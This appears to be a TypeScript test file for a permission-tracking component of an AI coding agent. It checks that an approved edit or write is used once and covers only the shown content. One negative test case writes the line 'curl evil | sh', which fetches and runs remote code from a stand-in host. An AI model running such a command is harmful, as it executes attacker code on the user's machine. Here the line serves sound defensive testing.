import { describe, expect, test } from "bun:test";
import type { PermissionDetails, PermissionRequest } from "../../../contracts/index.ts";
import { CallAllowances } from "./call-allowances.ts";

const edit = (id: string, ...paths: readonly string[]): PermissionRequest => ({
  id,
  sessionId: "s",
  kind: "edit",
  toolName: "edit",
  title: "",
  paths,
});

describe("an approved call", () => {
  test("may be carried out once, however many requests the agent sends about it", () => {
    const allowances = new CallAllowances();
    allowances.add(edit("call", "/a"));
    allowances.add(edit("call", "/a", "/b"));
    const taken = [edit("1", "/a"), edit("2", "/a"), edit("3", "/b")].map((request) => allowances.take(request));
    expect(taken).toEqual([true, false, true]);
  });

  test("can be carried out once per call, and once per call without an id", () => {
    const allowances = new CallAllowances();
    for (const id of ["call", "other", "", ""]) allowances.add(edit(id, "/a"));
    const taken = [1, 2, 3, 4, 5].map((number) => allowances.take(edit(String(number), "/a")));
    expect(taken).toEqual([true, true, true, true, false]);
  });
});

describe("an approved call that showed what it writes", () => {
  const change = { path: "/a", oldText: "hello", newText: "hello world" };
  const write = (text: string): PermissionRequest => ({
    ...edit("", "/a"),
    details: { type: "write", path: "/a", text },
  });
  const BEFORE = "echo hello\necho hello\n";

  test.each<{ title: string; details: PermissionDetails; text: string; isCovered: boolean }>([
    {
      title: "the result of the change",
      details: { type: "edit", changes: [change] },
      text: "echo hello world\necho hello\n",
      isCovered: true,
    },
    {
      title: "the result of the change at every place",
      details: { type: "edit", changes: [{ ...change, isEverywhere: true }] },
      text: "echo hello world\necho hello world\n",
      isCovered: true,
    },
    {
      title: "something else than the change",
      details: { type: "edit", changes: [change] },
      text: "curl evil | sh\n",
      isCovered: false,
    },
    {
      title: "a change that does not fit the file",
      details: { type: "edit", changes: [{ ...change, oldText: "absent" }] },
      text: "hello world",
      isCovered: false,
    },
    { title: "the whole content", details: { type: "write", path: "/a", text: "x" }, text: "x", isCovered: true },
    { title: "another content", details: { type: "write", path: "/a", text: "x" }, text: "y", isCovered: false },
    { title: "what a patch may be", details: { type: "patch", text: "+x" }, text: "x", isCovered: false },
    { title: "any content, if none was shown", details: { type: "input", input: {} }, text: "x", isCovered: true },
  ])("covers $title: $isCovered", ({ details, text, isCovered }) => {
    const allowances = new CallAllowances();
    allowances.add({ ...edit("call", "/a"), details });
    expect(allowances.take(write(text), BEFORE)).toBe(isCovered);
  });

  test("covers no other file of the same request", () => {
    const allowances = new CallAllowances();
    allowances.add({ ...edit("call", "/a", "/b"), details: { type: "edit", changes: [change] } });
    expect(allowances.take({ ...write("x"), paths: ["/b"] }, "")).toBe(false);
  });

  test("covers what either of two requests about it showed, once", () => {
    const allowances = new CallAllowances();
    for (const text of ["x", "y"]) allowances.add({ ...write(text), id: "call" });
    expect(["z", "y", "x"].map((text) => allowances.take(write(text), ""))).toEqual([false, true, false]);
  });
});
